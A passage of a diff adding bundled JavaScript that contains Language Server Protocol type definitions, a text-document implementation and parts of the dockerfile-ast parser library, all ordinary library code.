+      SemanticTokenTypes2["type"] = "type";
+      SemanticTokenTypes2["class"] = "class";
+      SemanticTokenTypes2["enum"] = "enum";
+      SemanticTokenTypes2["interface"] = "interface";
+      SemanticTokenTypes2["struct"] = "struct";
+      SemanticTokenTypes2["typeParameter"] = "typeParameter";
+      SemanticTokenTypes2["parameter"] = "parameter";
+      SemanticTokenTypes2["variable"] = "variable";
+      SemanticTokenTypes2["property"] = "property";
+      SemanticTokenTypes2["enumMember"] = "enumMember";
+      SemanticTokenTypes2["event"] = "event";
+      SemanticTokenTypes2["function"] = "function";
+      SemanticTokenTypes2["method"] = "method";
+      SemanticTokenTypes2["macro"] = "macro";
+      SemanticTokenTypes2["keyword"] = "keyword";
+      SemanticTokenTypes2["modifier"] = "modifier";
+      SemanticTokenTypes2["comment"] = "comment";
+      SemanticTokenTypes2["string"] = "string";
+      SemanticTokenTypes2["number"] = "number";
+      SemanticTokenTypes2["regexp"] = "regexp";
+      SemanticTokenTypes2["operator"] = "operator";
+      SemanticTokenTypes2["decorator"] = "decorator";
+      SemanticTokenTypes2["label"] = "label";
+    })(SemanticTokenTypes || (SemanticTokenTypes = {}));
+    (function(SemanticTokenModifiers2) {
+      SemanticTokenModifiers2["declaration"] = "declaration";
+      SemanticTokenModifiers2["definition"] = "definition";
+      SemanticTokenModifiers2["readonly"] = "readonly";
+      SemanticTokenModifiers2["static"] = "static";
+      SemanticTokenModifiers2["deprecated"] = "deprecated";
+      SemanticTokenModifiers2["abstract"] = "abstract";
+      SemanticTokenModifiers2["async"] = "async";
+      SemanticTokenModifiers2["modification"] = "modification";
+      SemanticTokenModifiers2["documentation"] = "documentation";
+      SemanticTokenModifiers2["defaultLibrary"] = "defaultLibrary";
+    })(SemanticTokenModifiers || (SemanticTokenModifiers = {}));
+    (function(SemanticTokens2) {
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && (candidate.resultId === void 0 || typeof candidate.resultId === "string") && Array.isArray(candidate.data) && (candidate.data.length === 0 || typeof candidate.data[0] === "number");
+      }
+      SemanticTokens2.is = is;
+    })(SemanticTokens || (SemanticTokens = {}));
+    (function(InlineValueText2) {
+      function create(range3, text) {
+        return { range: range3, text };
+      }
+      InlineValueText2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate !== void 0 && candidate !== null && Range.is(candidate.range) && Is.string(candidate.text);
+      }
+      InlineValueText2.is = is;
+    })(InlineValueText || (InlineValueText = {}));
+    (function(InlineValueVariableLookup2) {
+      function create(range3, variableName, caseSensitiveLookup) {
+        return { range: range3, variableName, caseSensitiveLookup };
+      }
+      InlineValueVariableLookup2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate !== void 0 && candidate !== null && Range.is(candidate.range) && Is.boolean(candidate.caseSensitiveLookup) && (Is.string(candidate.variableName) || candidate.variableName === void 0);
+      }
+      InlineValueVariableLookup2.is = is;
+    })(InlineValueVariableLookup || (InlineValueVariableLookup = {}));
+    (function(InlineValueEvaluatableExpression2) {
+      function create(range3, expression) {
+        return { range: range3, expression };
+      }
+      InlineValueEvaluatableExpression2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate !== void 0 && candidate !== null && Range.is(candidate.range) && (Is.string(candidate.expression) || candidate.expression === void 0);
+      }
+      InlineValueEvaluatableExpression2.is = is;
+    })(InlineValueEvaluatableExpression || (InlineValueEvaluatableExpression = {}));
+    (function(InlineValueContext2) {
+      function create(frameId, stoppedLocation) {
+        return { frameId, stoppedLocation };
+      }
+      InlineValueContext2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Range.is(value.stoppedLocation);
+      }
+      InlineValueContext2.is = is;
+    })(InlineValueContext || (InlineValueContext = {}));
+    (function(InlayHintKind2) {
+      InlayHintKind2.Type = 1;
+      InlayHintKind2.Parameter = 2;
+      function is(value) {
+        return value === 1 || value === 2;
+      }
+      InlayHintKind2.is = is;
+    })(InlayHintKind || (InlayHintKind = {}));
+    (function(InlayHintLabelPart2) {
+      function create(value) {
+        return { value };
+      }
+      InlayHintLabelPart2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && (candidate.tooltip === void 0 || Is.string(candidate.tooltip) || MarkupContent.is(candidate.tooltip)) && (candidate.location === void 0 || Location.is(candidate.location)) && (candidate.command === void 0 || Command2.is(candidate.command));
+      }
+      InlayHintLabelPart2.is = is;
+    })(InlayHintLabelPart || (InlayHintLabelPart = {}));
+    (function(InlayHint2) {
+      function create(position, label, kind) {
+        const result = { position, label };
+        if (kind !== void 0) {
+          result.kind = kind;
+        }
+        return result;
+      }
+      InlayHint2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Position.is(candidate.position) && (Is.string(candidate.label) || Is.typedArray(candidate.label, InlayHintLabelPart.is)) && (candidate.kind === void 0 || InlayHintKind.is(candidate.kind)) && candidate.textEdits === void 0 || Is.typedArray(candidate.textEdits, TextEdit.is) && (candidate.tooltip === void 0 || Is.string(candidate.tooltip) || MarkupContent.is(candidate.tooltip)) && (candidate.paddingLeft === void 0 || Is.boolean(candidate.paddingLeft)) && (candidate.paddingRight === void 0 || Is.boolean(candidate.paddingRight));
+      }
+      InlayHint2.is = is;
+    })(InlayHint || (InlayHint = {}));
+    (function(StringValue2) {
+      function createSnippet(value) {
+        return { kind: "snippet", value };
+      }
+      StringValue2.createSnippet = createSnippet;
+      function isSnippet(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && candidate.kind === "snippet" && Is.string(candidate.value);
+      }
+      StringValue2.isSnippet = isSnippet;
+    })(StringValue || (StringValue = {}));
+    (function(InlineCompletionItem2) {
+      function create(insertText, filterText, range3, command) {
+        return { insertText, filterText, range: range3, command };
+      }
+      InlineCompletionItem2.create = create;
+    })(InlineCompletionItem || (InlineCompletionItem = {}));
+    (function(InlineCompletionList2) {
+      function create(items2) {
+        return { items: items2 };
+      }
+      InlineCompletionList2.create = create;
+    })(InlineCompletionList || (InlineCompletionList = {}));
+    (function(InlineCompletionTriggerKind2) {
+      InlineCompletionTriggerKind2.Invoked = 1;
+      InlineCompletionTriggerKind2.Automatic = 2;
+    })(InlineCompletionTriggerKind || (InlineCompletionTriggerKind = {}));
+    (function(SelectedCompletionInfo2) {
+      function create(range3, text) {
+        return { range: range3, text };
+      }
+      SelectedCompletionInfo2.create = create;
+    })(SelectedCompletionInfo || (SelectedCompletionInfo = {}));
+    (function(InlineCompletionContext2) {
+      function create(triggerKind, selectedCompletionInfo) {
+        return { triggerKind, selectedCompletionInfo };
+      }
+      InlineCompletionContext2.create = create;
+    })(InlineCompletionContext || (InlineCompletionContext = {}));
+    (function(WorkspaceFolder2) {
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && URI.is(candidate.uri) && Is.string(candidate.name);
+      }
+      WorkspaceFolder2.is = is;
+    })(WorkspaceFolder || (WorkspaceFolder = {}));
+    EOL5 = ["\n", "\r\n", "\r"];
+    (function(TextDocument3) {
+      function create(uri, languageId, version, content) {
+        return new FullTextDocument(uri, languageId, version, content);
+      }
+      TextDocument3.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.string(candidate.uri) && (Is.undefined(candidate.languageId) || Is.string(candidate.languageId)) && Is.uinteger(candidate.lineCount) && Is.func(candidate.getText) && Is.func(candidate.positionAt) && Is.func(candidate.offsetAt) ? true : false;
+      }
+      TextDocument3.is = is;
+      function applyEdits(document, edits) {
+        let text = document.getText();
+        const sortedEdits = mergeSort2(edits, (a, b) => {
+          const diff = a.range.start.line - b.range.start.line;
+          if (diff === 0) {
+            return a.range.start.character - b.range.start.character;
+          }
+          return diff;
+        });
+        let lastModifiedOffset = text.length;
+        for (let i = sortedEdits.length - 1; i >= 0; i--) {
+          const e = sortedEdits[i];
+          const startOffset = document.offsetAt(e.range.start);
+          const endOffset = document.offsetAt(e.range.end);
+          if (endOffset <= lastModifiedOffset) {
+            text = text.substring(0, startOffset) + e.newText + text.substring(endOffset, text.length);
+          } else {
+            throw new Error("Overlapping edit");
+          }
+          lastModifiedOffset = startOffset;
+        }
+        return text;
+      }
+      TextDocument3.applyEdits = applyEdits;
+      function mergeSort2(data, compare) {
+        if (data.length <= 1) {
+          return data;
+        }
+        const p = data.length / 2 | 0;
+        const left = data.slice(0, p);
+        const right = data.slice(p);
+        mergeSort2(left, compare);
+        mergeSort2(right, compare);
+        let leftIdx = 0;
+        let rightIdx = 0;
+        let i = 0;
+        while (leftIdx < left.length && rightIdx < right.length) {
+          const ret = compare(left[leftIdx], right[rightIdx]);
+          if (ret <= 0) {
+            data[i++] = left[leftIdx++];
+          } else {
+            data[i++] = right[rightIdx++];
+          }
+        }
+        while (leftIdx < left.length) {
+          data[i++] = left[leftIdx++];
+        }
+        while (rightIdx < right.length) {
+          data[i++] = right[rightIdx++];
+        }
+        return data;
+      }
+    })(TextDocument || (TextDocument = {}));
+    FullTextDocument = class {
+      constructor(uri, languageId, version, content) {
+        this._uri = uri;
+        this._languageId = languageId;
+        this._version = version;
+        this._content = content;
+        this._lineOffsets = void 0;
+      }
+      get uri() {
+        return this._uri;
+      }
+      get languageId() {
+        return this._languageId;
+      }
+      get version() {
+        return this._version;
+      }
+      getText(range3) {
+        if (range3) {
+          const start = this.offsetAt(range3.start);
+          const end = this.offsetAt(range3.end);
+          return this._content.substring(start, end);
+        }
+        return this._content;
+      }
+      update(event, version) {
+        this._content = event.text;
+        this._version = version;
+        this._lineOffsets = void 0;
+      }
+      getLineOffsets() {
+        if (this._lineOffsets === void 0) {
+          const lineOffsets = [];
+          const text = this._content;
+          let isLineStart = true;
+          for (let i = 0; i < text.length; i++) {
+            if (isLineStart) {
+              lineOffsets.push(i);
+              isLineStart = false;
+            }
+            const ch = text.charAt(i);
+            isLineStart = ch === "\r" || ch === "\n";
+            if (ch === "\r" && i + 1 < text.length && text.charAt(i + 1) === "\n") {
+              i++;
+            }
+          }
+          if (isLineStart && text.length > 0) {
+            lineOffsets.push(text.length);
+          }
+          this._lineOffsets = lineOffsets;
+        }
+        return this._lineOffsets;
+      }
+      positionAt(offset) {
+        offset = Math.max(Math.min(offset, this._content.length), 0);
+        const lineOffsets = this.getLineOffsets();
+        let low = 0, high = lineOffsets.length;
+        if (high === 0) {
+          return Position.create(0, offset);
+        }
+        while (low < high) {
+          const mid = Math.floor((low + high) / 2);
+          if (lineOffsets[mid] > offset) {
+            high = mid;
+          } else {
+            low = mid + 1;
+          }
+        }
+        const line = low - 1;
+        return Position.create(line, offset - lineOffsets[line]);
+      }
+      offsetAt(position) {
+        const lineOffsets = this.getLineOffsets();
+        if (position.line >= lineOffsets.length) {
+          return this._content.length;
+        } else if (position.line < 0) {
+          return 0;
+        }
+        const lineOffset = lineOffsets[position.line];
+        const nextLineOffset = position.line + 1 < lineOffsets.length ? lineOffsets[position.line + 1] : this._content.length;
+        return Math.max(Math.min(lineOffset + position.character, nextLineOffset), lineOffset);
+      }
+      get lineCount() {
+        return this.getLineOffsets().length;
+      }
+    };
+    (function(Is2) {
+      const toString = Object.prototype.toString;
+      function defined(value) {
+        return typeof value !== "undefined";
+      }
+      Is2.defined = defined;
+      function undefined2(value) {
+        return typeof value === "undefined";
+      }
+      Is2.undefined = undefined2;
+      function boolean(value) {
+        return value === true || value === false;
+      }
+      Is2.boolean = boolean;
+      function string(value) {
+        return toString.call(value) === "[object String]";
+      }
+      Is2.string = string;
+      function number(value) {
+        return toString.call(value) === "[object Number]";
+      }
+      Is2.number = number;
+      function numberRange(value, min, max) {
+        return toString.call(value) === "[object Number]" && min <= value && value <= max;
+      }
+      Is2.numberRange = numberRange;
+      function integer2(value) {
+        return toString.call(value) === "[object Number]" && -2147483648 <= value && value <= 2147483647;
+      }
+      Is2.integer = integer2;
+      function uinteger2(value) {
+        return toString.call(value) === "[object Number]" && 0 <= value && value <= 2147483647;
+      }
+      Is2.uinteger = uinteger2;
+      function func(value) {
+        return toString.call(value) === "[object Function]";
+      }
+      Is2.func = func;
+      function objectLiteral(value) {
+        return value !== null && typeof value === "object";
+      }
+      Is2.objectLiteral = objectLiteral;
+      function typedArray(value, check2) {
+        return Array.isArray(value) && value.every(check2);
+      }
+      Is2.typedArray = typedArray;
+    })(Is || (Is = {}));
+  }
+});
+
+// node_modules/dockerfile-ast/lib/line.js
+var require_line = __commonJS({
+  "node_modules/dockerfile-ast/lib/line.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Line = void 0;
+    var Line = class {
+      constructor(document, range3) {
+        this.document = document;
+        this.range = range3;
+      }
+      getRange() {
+        return this.range;
+      }
+      getTextContent() {
+        return this.document.getText().substring(this.document.offsetAt(this.range.start), this.document.offsetAt(this.range.end));
+      }
+      isAfter(line) {
+        return this.range.start.line > line.range.start.line;
+      }
+      isBefore(line) {
+        return this.range.start.line < line;
+      }
+    };
+    exports.Line = Line;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/util.js
+var require_util9 = __commonJS({
+  "node_modules/dockerfile-ast/lib/util.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Util = void 0;
+    var Util = class _Util {
+      static isUTF8BOM(char) {
+        const uintArray = Uint8Array.from(Buffer.from(char, "UTF-8"));
+        return uintArray[0] === 239 && uintArray[1] == 187 && uintArray[2] == 191;
+      }
+      static isWhitespace(char) {
+        return char === " " || char === "	" || _Util.isNewline(char);
+      }
+      static isNewline(char) {
+        return char === "\r" || char === "\n";
+      }
+      static findLeadingNonWhitespace(content, escapeChar) {
+        whitespaceCheck: for (let i = 0; i < content.length; i++) {
+          switch (content.charAt(i)) {
+            case " ":
+            case "	":
+              continue;
+            case escapeChar:
+              escapeCheck: for (let j = i + 1; j < content.length; j++) {
+                switch (content.charAt(j)) {
+                  case " ":
+                  case "	":
+                    continue;
+                  case "\r":
+                    i = j + 1;
+                    continue whitespaceCheck;
+                  case "\n":
+                    i = j;
+                    continue whitespaceCheck;
+                  default:
+                    break escapeCheck;
+                }
+              }
+              return -1;
+            default:
+              return i;
+          }
+        }
+        return -1;
+      }
+      /**
+       * Determines if the given position is contained within the given range.
+       *
+       * @param position the position to check
+       * @param range the range to see if the position is inside of
+       */
+      static isInsideRange(position, range3) {
+        if (range3.start.line === range3.end.line) {
+          return range3.start.line === position.line && range3.start.character <= position.character && position.character <= range3.end.character;
+        } else if (range3.start.line === position.line) {
+          return range3.start.character <= position.character;
+        } else if (range3.end.line === position.line) {
+          return position.character <= range3.end.character;
+        }
+        return range3.start.line < position.line && position.line < range3.end.line;
+      }
+      static parseHeredocName(value) {
+        value = value.substring(2);
+        if (value.charAt(0) === "-") {
+          value = value.substring(1);
+        }
+        if (value.charAt(0) === '"') {
+          if (value.charAt(value.length - 1) !== '"') {
+            return null;
+          }
+          value = value.substring(1, value.length - 1);
+        }
+        if (value.charAt(0) === "'") {
+          if (value.charAt(value.length - 1) !== "'") {
+            return null;
+          }
+          value = value.substring(1, value.length - 1);
+        }
+        if (value.charAt(0) === "<") {
+          return null;
+        }
+        return value;
+      }
+    };
+    exports.Util = Util;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/comment.js
+var require_comment = __commonJS({
+  "node_modules/dockerfile-ast/lib/comment.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Comment = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var line_1 = require_line();
+    var util_1 = require_util9();
+    var Comment = class extends line_1.Line {
+      constructor(document, range3) {
+        super(document, range3);
+      }
+      toString() {
+        const content = this.getContent();
+        if (content) {
+          return "# " + content;
+        }
+        return "#";
+      }
+      /**
+       * Returns the content of this comment. This excludes leading and
+       * trailing whitespace as well as the # symbol. If the comment only
+       * consists of whitespace, the empty string will be returned.
+       */
+      getContent() {
+        let range3 = this.getContentRange();
+        if (range3 === null) {
+          return "";
+        }
+        return this.document.getText().substring(this.document.offsetAt(range3.start), this.document.offsetAt(range3.end));
+      }
+      /**
+       * Returns a range that includes the content of the comment
+       * excluding any leading and trailing whitespace as well as the #
+       * symbol. May return null if the comment only consists of whitespace
+       * characters.
+       */
+      getContentRange() {
+        let range3 = this.getRange();
+        const startOffset = this.document.offsetAt(range3.start);
+        let raw = this.document.getText().substring(startOffset, this.document.offsetAt(range3.end));
+        let start = -1;
+        let end = -1;
+        for (let i = 1; i < raw.length; i++) {
+          if (!util_1.Util.isWhitespace(raw.charAt(i))) {
+            start = i;
+            break;
+          }
+        }
+        if (start === -1) {
+          return null;
+        }
+        for (let i = raw.length - 1; i >= 1; i--) {
+          if (!util_1.Util.isWhitespace(raw.charAt(i))) {
+            end = i + 1;
+            break;
+          }
+        }
+        return vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + start), this.document.positionAt(startOffset + end));
+      }
+    };
+    exports.Comment = Comment;
+  }
+});
+
+// node_modules/vscode-languageserver-textdocument/lib/esm/main.js
+var main_exports2 = {};
+__export(main_exports2, {
+  TextDocument: () => TextDocument2
+});
+function mergeSort(data, compare) {
+  if (data.length <= 1) {
+    return data;
+  }
+  const p = data.length / 2 | 0;
+  const left = data.slice(0, p);
+  const right = data.slice(p);
+  mergeSort(left, compare);
+  mergeSort(right, compare);
+  let leftIdx = 0;
+  let rightIdx = 0;
+  let i = 0;
+  while (leftIdx < left.length && rightIdx < right.length) {
+    const ret = compare(left[leftIdx], right[rightIdx]);
+    if (ret <= 0) {
+      data[i++] = left[leftIdx++];
+    } else {
+      data[i++] = right[rightIdx++];
+    }
+  }
+  while (leftIdx < left.length) {
+    data[i++] = left[leftIdx++];
+  }
+  while (rightIdx < right.length) {
+    data[i++] = right[rightIdx++];
+  }
+  return data;
+}
+function computeLineOffsets(text, isAtLineStart, textOffset = 0) {
+  const result = isAtLineStart ? [textOffset] : [];
+  for (let i = 0; i < text.length; i++) {
+    const ch = text.charCodeAt(i);
+    if (isEOL(ch)) {
+      if (ch === 13 && i + 1 < text.length && text.charCodeAt(i + 1) === 10) {
+        i++;
+      }
+      result.push(textOffset + i + 1);
+    }
+  }
+  return result;
+}
+function isEOL(char) {
+  return char === 13 || char === 10;
+}
+function getWellformedRange(range3) {
+  const start = range3.start;
+  const end = range3.end;
+  if (start.line > end.line || start.line === end.line && start.character > end.character) {
+    return { start: end, end: start };
+  }
+  return range3;
+}
+function getWellformedEdit(textEdit) {
+  const range3 = getWellformedRange(textEdit.range);
+  if (range3 !== textEdit.range) {
+    return { newText: textEdit.newText, range: range3 };
+  }
+  return textEdit;
+}
+var FullTextDocument2, TextDocument2;
+var init_main2 = __esm({
+  "node_modules/vscode-languageserver-textdocument/lib/esm/main.js"() {
+    "use strict";
+    FullTextDocument2 = class _FullTextDocument {
+      constructor(uri, languageId, version, content) {
+        this._uri = uri;
+        this._languageId = languageId;
+        this._version = version;
+        this._content = content;
+        this._lineOffsets = void 0;
+      }
+      get uri() {
+        return this._uri;
+      }
+      get languageId() {
+        return this._languageId;
+      }
+      get version() {
+        return this._version;
+      }
+      getText(range3) {
+        if (range3) {
+          const start = this.offsetAt(range3.start);
+          const end = this.offsetAt(range3.end);
+          return this._content.substring(start, end);
+        }
+        return this._content;
+      }
+      update(changes, version) {
+        for (const change of changes) {
+          if (_FullTextDocument.isIncremental(change)) {
+            const range3 = getWellformedRange(change.range);
+            const startOffset = this.offsetAt(range3.start);
+            const endOffset = this.offsetAt(range3.end);
+            this._content = this._content.substring(0, startOffset) + change.text + this._content.substring(endOffset, this._content.length);
+            const insertedEndOffset = startOffset + change.text.length;
+            const crlfAtStart = this._content.charCodeAt(startOffset - 1) === 13 && this._content.charCodeAt(startOffset) === 10;
+            const crlfAtEnd = this._content.charCodeAt(insertedEndOffset - 1) === 13 && this._content.charCodeAt(insertedEndOffset) === 10;
+            if (crlfAtStart || crlfAtEnd) {
+              this._lineOffsets = void 0;
+              continue;
+            }
+            const startLine = Math.max(range3.start.line, 0);
+            const endLine = Math.max(range3.end.line, 0);
+            let lineOffsets = this._lineOffsets;
+            const addedLineOffsets = computeLineOffsets(change.text, false, startOffset);
+            if (endLine - startLine === addedLineOffsets.length) {
+              for (let i = 0, len = addedLineOffsets.length; i < len; i++) {
+                lineOffsets[i + startLine + 1] = addedLineOffsets[i];
+              }
+            } else {
+              if (addedLineOffsets.length < 1e4) {
+                lineOffsets.splice(startLine + 1, endLine - startLine, ...addedLineOffsets);
+              } else {
+                this._lineOffsets = lineOffsets = lineOffsets.slice(0, startLine + 1).concat(addedLineOffsets, lineOffsets.slice(endLine + 1));
+              }
+            }
+            const diff = change.text.length - (endOffset - startOffset);
+            if (diff !== 0) {
+              for (let i = startLine + 1 + addedLineOffsets.length, len = lineOffsets.length; i < len; i++) {
+                lineOffsets[i] = lineOffsets[i] + diff;
+              }
+            }
+          } else if (_FullTextDocument.isFull(change)) {
+            this._content = change.text;
+            this._lineOffsets = void 0;
+          } else {
+            throw new Error("Unknown change event received");
+          }
+        }
+        this._version = version;
+      }
+      getLineOffsets() {
+        if (this._lineOffsets === void 0) {
+          this._lineOffsets = computeLineOffsets(this._content, true);
+        }
+        return this._lineOffsets;
+      }
+      positionAt(offset) {
+        offset = Math.max(Math.min(offset, this._content.length), 0);
+        const lineOffsets = this.getLineOffsets();
+        let low = 0, high = lineOffsets.length;
+        if (high === 0) {
+          return { line: 0, character: offset };
+        }
+        while (low < high) {
+          const mid = Math.floor((low + high) / 2);
+          if (lineOffsets[mid] > offset) {
+            high = mid;
+          } else {
+            low = mid + 1;
+          }
+        }
+        const line = low - 1;
+        offset = this.ensureBeforeEOL(offset, lineOffsets[line]);
+        return { line, character: offset - lineOffsets[line] };
+      }
+      offsetAt(position) {
+        const lineOffsets = this.getLineOffsets();
+        if (position.line >= lineOffsets.length) {
+          return this._content.length;
+        } else if (position.line < 0) {
+          return 0;
+        }
+        const lineOffset = lineOffsets[position.line];
+        if (position.character <= 0) {
+          return lineOffset;
+        }
+        const nextLineOffset = position.line + 1 < lineOffsets.length ? lineOffsets[position.line + 1] : this._content.length;
+        const offset = Math.min(lineOffset + position.character, nextLineOffset);
+        return this.ensureBeforeEOL(offset, lineOffset);
+      }
+      getLineRange(line) {
+        const lineOffsets = this.getLineOffsets();
+        if (line >= lineOffsets.length) {
+          const lastLine = lineOffsets.length - 1;
+          return { start: { line: lastLine, character: 0 }, end: { line: lastLine, character: this._content.length - lineOffsets[lastLine] } };
+        } else if (line < 0) {
+          return { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };
+        }
+        const startOffset = lineOffsets[line];
+        const nextLineOffset = line + 1 < lineOffsets.length ? lineOffsets[line + 1] : this._content.length;
+        const endOffset = this.ensureBeforeEOL(nextLineOffset, startOffset);
+        return { start: { line, character: 0 }, end: { line, character: endOffset - startOffset } };
+      }
+      getEOLCharacters(line) {
+        const lineOffsets = this.getLineOffsets();
+        if (line >= lineOffsets.length) {
+          return "";
+        } else if (line < 0) {
+          return "";
+        }
+        const nextLineOffset = line + 1 < lineOffsets.length ? lineOffsets[line + 1] : this._content.length;
+        const eolOffset = this.ensureBeforeEOL(nextLineOffset, lineOffsets[line]);
+        return this._content.substring(eolOffset, nextLineOffset);
+      }
+      ensureBeforeEOL(offset, lineOffset) {
+        while (offset > lineOffset && isEOL(this._content.charCodeAt(offset - 1))) {
+          offset--;
+        }
+        return offset;
+      }
+      get lineCount() {
+        return this.getLineOffsets().length;
+      }
+      static isIncremental(event) {
+        const candidate = event;
+        return candidate !== void 0 && candidate !== null && typeof candidate.text === "string" && candidate.range !== void 0 && (candidate.rangeLength === void 0 || typeof candidate.rangeLength === "number");
+      }
+      static isFull(event) {
+        const candidate = event;
+        return candidate !== void 0 && candidate !== null && typeof candidate.text === "string" && candidate.range === void 0 && candidate.rangeLength === void 0;
+      }
+    };
+    (function(TextDocument3) {
+      function create(uri, languageId, version, content) {
+        return new FullTextDocument2(uri, languageId, version, content);
+      }
+      TextDocument3.create = create;
+      function update(document, changes, version) {
+        if (document instanceof FullTextDocument2) {
+          document.update(changes, version);
+          return document;
+        } else {
+          throw new Error("TextDocument.update: document must be created by TextDocument.create");
+        }
+      }
+      TextDocument3.update = update;
+      function applyEdits(document, edits) {
+        const text = document.getText();
+        const sortedEdits = mergeSort(edits.map(getWellformedEdit), (a, b) => {
+          const diff = a.range.start.line - b.range.start.line;
+          if (diff === 0) {
+            return a.range.start.character - b.range.start.character;
+          }
+          return diff;
+        });
+        let lastModifiedOffset = 0;
+        const spans = [];
+        for (const e of sortedEdits) {
+          const startOffset = document.offsetAt(e.range.start);
+          if (startOffset < lastModifiedOffset) {
+            throw new Error("Overlapping edit");
+          } else if (startOffset > lastModifiedOffset) {
+            spans.push(text.substring(lastModifiedOffset, startOffset));
+          }
+          if (e.newText.length) {
+            spans.push(e.newText);
+          }
+          lastModifiedOffset = document.offsetAt(e.range.end);
+        }
+        spans.push(text.substr(lastModifiedOffset));
+        return spans.join("");
+      }
+      TextDocument3.applyEdits = applyEdits;
+    })(TextDocument2 || (TextDocument2 = {}));
+  }
+});
+
+// node_modules/dockerfile-ast/lib/parserDirective.js
+var require_parserDirective = __commonJS({
+  "node_modules/dockerfile-ast/lib/parserDirective.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.ParserDirective = void 0;
+    var main_1 = require_main();
+    var line_1 = require_line();
+    var ParserDirective = class extends line_1.Line {
+      constructor(document, range3, nameRange, valueRange) {
+        super(document, range3);
+        this.nameRange = nameRange;
+        this.valueRange = valueRange;
+      }
+      toString() {
+        return "# " + this.getName() + "=" + this.getValue();
+      }
+      getNameRange() {
+        return this.nameRange;
+      }
+      getValueRange() {
+        return this.valueRange;
+      }
+      getName() {
+        return this.document.getText().substring(this.document.offsetAt(this.nameRange.start), this.document.offsetAt(this.nameRange.end));
+      }
+      getValue() {
+        return this.document.getText().substring(this.document.offsetAt(this.valueRange.start), this.document.offsetAt(this.valueRange.end));
+      }
+      getDirective() {
+        const directive = main_1.Directive[this.getName().toLowerCase()];
+        return directive === void 0 ? null : directive;
+      }
+    };
+    exports.ParserDirective = ParserDirective;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/heredoc.js
+var require_heredoc = __commonJS({
+  "node_modules/dockerfile-ast/lib/heredoc.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Heredoc = void 0;
+    var Heredoc = class {
+      constructor(startRange, name, nameRange, contentRange, endRange) {
+        this.startRange = startRange;
+        this.name = name;
+        this.nameRange = nameRange;
+        this.contentRange = contentRange;
+        this.endRange = endRange;
+      }
+      /**
+       * Returns the name of the here-document.
+       *
+       * This API is experimental and subject to change.
+       */
+      getName() {
+        return this.name;
+      }
+      /**
+       * Returns the range of the start operator and the name. If the
+       * here-document is initialized with <<EOT then the start range would
+       * encompass all five characters.
+       *
+       * This API is experimental and subject to change.
+       */
+      getStartRange() {
+        return this.startRange;
+      }
+      /**
+       * Returns the range of this here-document's name that is declared at
+       * the beginning of the here-document with the operator. If the
+       * here-document is initialized with <<EOT then the name range would
+       * encompass the latter three "EOT" characters.
+       *
+       * This API is experimental and subject to change.
+       */
+      getNameRange() {
+        return this.nameRange;
+      }
+      /**
+       * Returns the range of the content of this here-document. This may
+       * be null if the here-document has no content because:
+       * - the start range is the only thing that was declared
+       * - the end range was declared immediately and there is no content
+       *
+       * This API is experimental and subject to change.
+       */
+      getContentRange() {
+        return this.contentRange;
+      }
+      /**
+       * Returns the range of the here-document's name on a line that
+       * represents the end of the here-document.
+       *
+       * This API is experimental and subject to change.
+       */
+      getDelimiterRange() {
+        return this.endRange;
+      }
+    };
+    exports.Heredoc = Heredoc;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/variable.js
+var require_variable = __commonJS({
+  "node_modules/dockerfile-ast/lib/variable.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Variable = void 0;
+    var Variable = class {
+      constructor(name, nameRange, range3, modifier, modifierRange, substitutionParameter, substitutionRange, defined, buildVariable, stringValue3) {
+        this.name = name;
+        this.nameRange = nameRange;
+        this.range = range3;
+        this.modifier = modifier;
+        this.modifierRange = modifierRange;
+        this.substitutionParameter = substitutionParameter;
+        this.substitutionRange = substitutionRange;
+        this.defined = defined;
+        this.buildVariable = buildVariable;
+        this.stringValue = stringValue3;
+      }
+      toString() {
+        return this.stringValue;
+      }
+      getName() {
+        return this.name;
+      }
+      getNameRange() {
+        return this.nameRange;
+      }
+      /**
+       * Returns the range of the entire variable. This includes the symbols for
+       * the declaration of the variable such as the $, {, and } symbols.
+       *
+       * @return the range in the document that this variable encompasses in its
+       *         entirety
+       */
+      getRange() {
+        return this.range;
+      }
+      /**
+       * Returns the modifier character that has been set for
+       * specifying how this variable should be expanded and resolved.
+       * If this variable is ${variable:+value} then the modifier
+       * character is '+'. Will be the empty string if the variable is
+       * declared as ${variable:}. Otherwise, will be null if this
+       * variable will not use variable substitution at all (such as
+       * ${variable} or $variable).
+       *
+       * @return this variable's modifier character, or the empty
+       *         string if it does not have one, or null if this
+       *         variable will not use variable substitution
+       */
+      getModifier() {
+        return this.modifier;
+      }
+      getModifierRange() {
+        return this.modifierRange;
+      }
+      /**
+       * Returns the parameter that will be used for substitution if
+       * this variable uses modifiers to define how its value should be
+       * resolved. If this variable is ${variable:+value} then the
+       * substitution value will be 'value'. Will be the empty string
+       * if the variable is declared as ${variable:+} or some other
+       * variant where the only thing that follows the modifier
+       * character (excluding considerations of escape characters and
+       * so on) is the variable's closing bracket. May be null if this
+       * variable does not have a modifier character defined (such as
+       * ${variable} or $variable).
+       *
+       * @return this variable's substitution parameter, or the empty
+       *         string if it does not have one, or null if there is
